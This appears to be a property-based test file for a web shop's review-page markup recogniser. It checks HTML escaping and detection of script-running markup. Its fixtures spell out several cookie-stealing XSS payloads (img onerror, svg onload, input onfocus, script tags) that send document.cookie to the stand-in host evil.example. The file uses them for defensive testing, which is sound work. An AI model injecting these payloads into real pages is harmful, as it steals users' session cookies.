/** The review page's recogniser: what markup would run, read without running anything. */
import fc from 'fast-check';
import { createRequire } from 'node:module';
import { describe, expect, it } from 'vitest';
import { escapeHtml } from '../server/shop';
import { decodeEntities, parseMarkup, readMarkup, requestAddress } from './page-markup';

const RUNS = Number(process.env.PROPERTY_RUNS ?? 500);
const realEscape = createRequire(import.meta.url)('escape-html') as (s: string) => string;

/** Strings made of the characters markup is made of, so the parser meets every branch. */
const markupish = fc
  .array(
    fc.oneof(
      fc.constantFrom('<', '>', '/', '=', '"', "'", ' ', '&', ';', '#', '!--', '-->', '\n'),
      fc.constantFrom('img', 'script', 'svg', 'src', 'onerror', 'onload', 'x', 'b', 'input'),
      fc.constantFrom(
        'document.cookie',
        'fetch(',
        "'https://evil.example/?c='",
        '+',
        ')',
        'alert(',
      ),
      fc.string({ maxLength: 4 }),
    ),
    { maxLength: 40 },
  )
  .map((parts) => parts.join(''));

describe('reading markup without running it', () => {
  it('never throws on any text, and every element it finds is a name it parsed', () => {
    fc.assert(
      fc.property(fc.oneof(markupish, fc.string({ maxLength: 200 })), (html) => {
        const reading = readMarkup(html);
        for (const run of reading.runs) expect(typeof run.code).toBe('string');
        expect(Array.isArray(parseMarkup(html))).toBe(true);
      }),
      { numRuns: RUNS },
    );
  });

  it('escaped output never runs, whatever was typed, and reads back as the typed text', () => {
    fc.assert(
      fc.property(fc.oneof(markupish, fc.string({ maxLength: 200 })), (typed) => {
        const html = escapeHtml(typed);
        const reading = readMarkup(html);
        expect(reading.runs).toEqual([]);
        expect(reading.waits).toEqual([]);
        expect(reading.nodes.every((n) => n.kind === 'text')).toBe(true);
        expect(reading.nodes.map((n) => (n.kind === 'text' ? n.text : '')).join('')).toBe(typed);
      }),
      { numRuns: RUNS },
    );
  });

  it('escapes exactly as the escape-html package does', () => {
    fc.assert(
      fc.property(fc.oneof(markupish, fc.string()), (s) => {
        expect(escapeHtml(s)).toBe(realEscape(s));
      }),
      { numRuns: RUNS },
    );
  });

  it('recognises the known payload shapes, with the address and the cookie', () => {
    const shapes: [string, string][] = [
      [`<img src=x onerror="fetch('https://evil.example/?c='+document.cookie)">`, 'image-fails'],
      [
        `<IMG SRC="nope" ONERROR="new Image().src='https://evil.example/?c='+document.cookie">`,
        'image-fails',
      ],
      [`<svg onload="location='https://evil.example/?c='+document.cookie">`, 'loads'],
      [
        `<input autofocus onfocus="navigator.sendBeacon('https://evil.example/?c='+document.cookie)">`,
        'autofocus',
      ],
      [
        `<img src=x onerror="fetch(&#39;https://evil.example/?c=&#39;+document.cookie)">`,
        'image-fails',
      ],
    ];
    for (const [html, because] of shapes) {
      const [run] = readMarkup(html).runs;
      expect(run?.trigger).toMatchObject({ kind: 'handler', because });
      expect(run?.readsCookie).toBe(true);
      expect(run?.sendsTo).toBe('https://evil.example/?c=');
      expect(requestAddress(run!, 'connect.sid=s%3Aabc.def')).toBe(
        'https://evil.example/?c=connect.sid=s%3Aabc.def',
      );
    }
    const [script] = readMarkup(
      `nice<script>fetch("https://evil.example/?c="+encodeURIComponent(document.cookie))</script>`,
    ).runs;
    expect(script?.trigger).toEqual({ kind: 'script' });
    expect(requestAddress(script!, 'a=1; b=2')).toBe('https://evil.example/?c=a%3D1%3B%20b%3D2');
  });

  it('tells what waits for a person, and what runs without sending anything', () => {
    expect(readMarkup('<a href="#" onclick="alert(1)">x</a>').runs).toEqual([]);
    expect(readMarkup('<a href="#" onclick="alert(1)">x</a>').waits).toEqual([
      { tag: 'a', attr: 'onclick' },
    ]);
    // With no src nothing is fetched, so nothing fails (as in Chromium).
    expect(readMarkup('<img onerror="alert(1)">').runs).toEqual([]);
    expect(readMarkup('<video onerror="alert(1)"></video>').runs).toEqual([]);
    const [alert] = readMarkup('<script>alert(document.cookie)</script>').runs;
    expect(alert).toMatchObject({ alerts: true, readsCookie: true, sendsTo: null });
    expect(requestAddress(alert!, 'a=1')).toBeNull();
    expect(readMarkup('<b>for hours</b>').runs).toEqual([]);
  });

  it('parses text, nesting and character references as a browser would, simplified', () => {
    expect(parseMarkup('Keeps tea hot <b>for <i>hours</i></b>!')).toEqual([
      { kind: 'text', text: 'Keeps tea hot ' },
      {
        kind: 'element',
        tag: 'b',
        attrs: [],
        children: [
          { kind: 'text', text: 'for ' },
          { kind: 'element', tag: 'i', attrs: [], children: [{ kind: 'text', text: 'hours' }] },
        ],
      },
      { kind: 'text', text: '!' },
    ]);
    expect(decodeEntities('&lt;img&gt; &amp;amp; &#60;&#x3C; &bogus;')).toBe(
      '<img> &amp; << &bogus;',
    );
    // A tag the end of the text cuts off is dropped, as the HTML parser drops it.
    expect(parseMarkup('hi <img src=x onerror="fetch(1)')).toEqual([{ kind: 'text', text: 'hi ' }]);
  });
});
